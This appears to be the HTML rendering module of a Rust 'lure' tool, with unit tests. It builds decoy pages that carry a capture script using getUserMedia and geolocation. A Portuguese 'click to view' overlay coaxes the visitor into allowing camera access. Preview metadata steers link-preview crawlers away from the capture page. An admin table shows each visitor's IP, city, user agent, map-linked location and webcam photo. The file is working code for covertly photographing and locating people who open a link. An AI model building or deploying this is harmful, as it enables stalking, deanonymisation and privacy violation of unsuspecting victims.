//! HTML render pipeline.
//!
//! Builds the decoy page served on a lure hit and the admin review table.
//! The decoy page always embeds the fixed capture script with a single
//! injected binding, the view id, which the script uses to tag its
//! callbacks.

use crate::config::CaptureMode;
use crate::services::IpInfo;
use crate::storage::{Lure, LureContent, LureView};

const CAPTURE_SCRIPT: &str = include_str!("assets/capture.js");

/// Minimal HTML entity escaping for text nodes and attribute values.
pub fn escape_html(input: &str) -> String {
    let mut out = String::with_capacity(input.len());
    for c in input.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            _ => out.push(c),
        }
    }
    out
}

fn decoy_body(lure: &Lure) -> String {
    match &lure.content {
        LureContent::Text(text) => format!("<p>{}</p>", escape_html(text)),
        LureContent::Image(data_uri) => {
            format!(r#"<img src="{}" alt="">"#, escape_html(data_uri))
        }
    }
}

/// Social-preview metadata for image lures: crawlers building a link
/// preview fetch the raw image endpoint, never the capture page itself.
fn preview_meta(lure: &Lure) -> String {
    match &lure.content {
        LureContent::Text(_) => String::new(),
        LureContent::Image(_) => format!(
            concat!(
                "  <meta property=\"og:type\" content=\"website\">\n",
                "  <meta property=\"og:image\" content=\"/api/get-image-page/{}\">\n",
            ),
            escape_html(&lure.id)
        ),
    }
}

/// Render the decoy page for a resolved lure and a freshly recorded view.
pub fn lure_page(lure: &Lure, view_id: &str, mode: CaptureMode, warmup_ms: u64) -> String {
    let title = escape_html(lure.path.trim_start_matches('/'));
    let mode_str = match mode {
        CaptureMode::Gesture => "gesture",
        CaptureMode::Immediate => "immediate",
    };

    let overlay = match mode {
        CaptureMode::Gesture => concat!(
            "  <div id=\"reveal-overlay\">\n",
            "    <button id=\"reveal-button\">Clique para visualizar</button>\n",
            "  </div>\n",
        ),
        CaptureMode::Immediate => "",
    };

    format!(
        r#"<!doctype html>
<html lang="pt-BR">
<head>
  <meta charset="utf-8">
  <meta name="viewport" content="width=device-width, initial-scale=1">
  <title>{title}</title>
{preview}  <style>
    body {{ margin: 0; font-family: sans-serif; }}
    main {{ display: flex; align-items: center; justify-content: center; min-height: 100vh; padding: 1rem; }}
    main img {{ max-width: 100%; height: auto; }}
    #reveal-overlay {{ position: fixed; inset: 0; background: #ffffff; display: flex; align-items: center; justify-content: center; z-index: 10; }}
    #reveal-button {{ font-size: 1.25rem; padding: 0.75rem 2rem; border: 1px solid #ccc; border-radius: 6px; background: #f5f5f5; cursor: pointer; }}
  </style>
</head>
<body>
{overlay}  <main>
    {decoy}
  </main>
  <script>
    const pageLoadId = "{view_id}";
    const captureMode = "{mode_str}";
    const captureWarmupMs = {warmup_ms};
  </script>
  <script>
{script}  </script>
</body>
</html>
"#,
        title = title,
        preview = preview_meta(lure),
        overlay = overlay,
        decoy = decoy_body(lure),
        view_id = view_id,
        mode_str = mode_str,
        warmup_ms = warmup_ms,
        script = CAPTURE_SCRIPT,
    )
}

/// One row of the admin review table.
pub struct ViewRow {
    pub view: LureView,
    pub ipinfo: Option<IpInfo>,
}

fn map_link(location: &str) -> String {
    // The stored "<lat>, <lon>" string is URL-encoded as-is; nothing ever
    // re-parses the floats.
    format!("https://www.google.com/maps?q={}", urlencoding::encode(location))
}

/// Render the review table for a lure's views, newest first.
pub fn views_table(lure: &Lure, rows: &[ViewRow]) -> String {
    let mut body = String::new();

    for row in rows {
        let view = &row.view;
        let seen_at = view
            .created_at()
            .map(|dt| dt.format("%Y-%m-%d %H:%M:%S UTC").to_string())
            .unwrap_or_else(|| "-".to_string());

        let ip_cell = match &row.ipinfo {
            Some(info) => {
                let mut annotation: Vec<&str> = Vec::new();
                if let Some(city) = info.city.as_deref() {
                    annotation.push(city);
                }
                if let Some(country) = info.country.as_deref() {
                    annotation.push(country);
                }
                if annotation.is_empty() {
                    escape_html(&view.ip)
                } else {
                    format!(
                        "{} ({})",
                        escape_html(&view.ip),
                        escape_html(&annotation.join(", "))
                    )
                }
            }
            None => escape_html(&view.ip),
        };

        let location_cell = match &view.location {
            Some(location) => format!(
                r#"<a href="{}" target="_blank">{}</a>"#,
                escape_html(&map_link(location)),
                escape_html(location)
            ),
            None => "-".to_string(),
        };

        let photo_cell = match &view.photo {
            Some(photo) => format!(r#"<img src="{}" width="160" alt="">"#, escape_html(photo)),
            None => "-".to_string(),
        };

        body.push_str(&format!(
            concat!(
                "      <tr>\n",
                "        <td><code>{}</code></td>\n",
                "        <td>{}</td>\n",
                "        <td>{}</td>\n",
                "        <td>{}</td>\n",
                "        <td>{}</td>\n",
                "        <td>{}</td>\n",
                "      </tr>\n",
            ),
            escape_html(&view.id),
            seen_at,
            ip_cell,
            escape_html(&view.user_agent),
            location_cell,
            photo_cell,
        ));
    }

    format!(
        r#"<!doctype html>
<html lang="pt-BR">
<head>
  <meta charset="utf-8">
  <title>Views: {path}</title>
  <style>
    body {{ font-family: sans-serif; margin: 2rem; }}
    table {{ border-collapse: collapse; width: 100%; }}
    th, td {{ border: 1px solid #ddd; padding: 0.5rem; text-align: left; vertical-align: top; }}
    th {{ background: #f5f5f5; }}
    code {{ font-size: 0.8rem; }}
  </style>
</head>
<body>
  <h1>Views: {path}</h1>
  <table>
    <thead>
      <tr>
        <th>Id</th><th>Seen at</th><th>IP</th><th>User agent</th><th>Location</th><th>Photo</th>
      </tr>
    </thead>
    <tbody>
{body}    </tbody>
  </table>
</body>
</html>
"#,
        path = escape_html(&lure.path),
        body = body,
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::utils::ident;

    fn text_lure() -> Lure {
        Lure {
            id: ident::new_id(),
            path: "/promo".to_string(),
            content: LureContent::Text("Olá <mundo>".to_string()),
            created_at: chrono::Utc::now(),
        }
    }

    fn image_lure() -> Lure {
        Lure {
            id: ident::new_id(),
            path: "/foto".to_string(),
            content: LureContent::Image("data:image/png;base64,AAAA".to_string()),
            created_at: chrono::Utc::now(),
        }
    }

    #[test]
    fn test_escape_html() {
        assert_eq!(
            escape_html(r#"<b>"x" & 'y'</b>"#),
            "&lt;b&gt;&quot;x&quot; &amp; &#39;y&#39;&lt;/b&gt;"
        );
    }

    #[test]
    fn test_text_page_embeds_escaped_content_and_view_id() {
        let lure = text_lure();
        let html = lure_page(&lure, "view-123", CaptureMode::Immediate, 1000);

        assert!(html.contains("Olá &lt;mundo&gt;"));
        assert!(html.contains(r#"const pageLoadId = "view-123";"#));
        assert!(html.contains(r#"const captureMode = "immediate";"#));
        assert!(!html.contains("reveal-overlay"));
    }

    #[test]
    fn test_gesture_page_has_overlay() {
        let lure = text_lure();
        let html = lure_page(&lure, "view-123", CaptureMode::Gesture, 500);

        assert!(html.contains("reveal-overlay"));
        assert!(html.contains("Clique para visualizar"));
        assert!(html.contains("const captureWarmupMs = 500;"));
    }

    #[test]
    fn test_image_page_has_preview_meta_and_inline_image() {
        let lure = image_lure();
        let html = lure_page(&lure, "v", CaptureMode::Gesture, 1000);

        assert!(html.contains(&format!("/api/get-image-page/{}", lure.id)));
        assert!(html.contains(r#"src="data:image/png;base64,AAAA""#));
    }

    #[test]
    fn test_page_always_carries_capture_script() {
        let html = lure_page(&text_lure(), "v", CaptureMode::Gesture, 1000);
        assert!(html.contains("page-view-photo"));
        assert!(html.contains("page-view-location"));
        assert!(html.contains("getUserMedia"));
    }

    #[test]
    fn test_views_table_renders_map_link() {
        let lure = text_lure();
        let rows = vec![ViewRow {
            view: LureView {
                id: ident::new_id(),
                lure_id: Some(lure.id.clone()),
                ip: "203.0.113.9".to_string(),
                user_agent: "UA".to_string(),
                location: Some("-23.55, -46.63".to_string()),
                photo: None,
            },
            ipinfo: None,
        }];

        let html = views_table(&lure, &rows);
        assert!(html.contains("https://www.google.com/maps?q=-23.55%2C%20-46.63"));
        assert!(html.contains("203.0.113.9"));
    }

    #[test]
    fn test_views_table_annotates_geo() {
        let lure = text_lure();
        let rows = vec![ViewRow {
            view: LureView {
                id: ident::new_id(),
                lure_id: Some(lure.id.clone()),
                ip: "203.0.113.9".to_string(),
                user_agent: "UA".to_string(),
                location: None,
                photo: None,
            },
            ipinfo: Some(IpInfo {
                country: Some("BR".to_string()),
                city: Some("São Paulo".to_string()),
            }),
        }];

        let html = views_table(&lure, &rows);
        assert!(html.contains("203.0.113.9 (São Paulo, BR)"));
    }
}
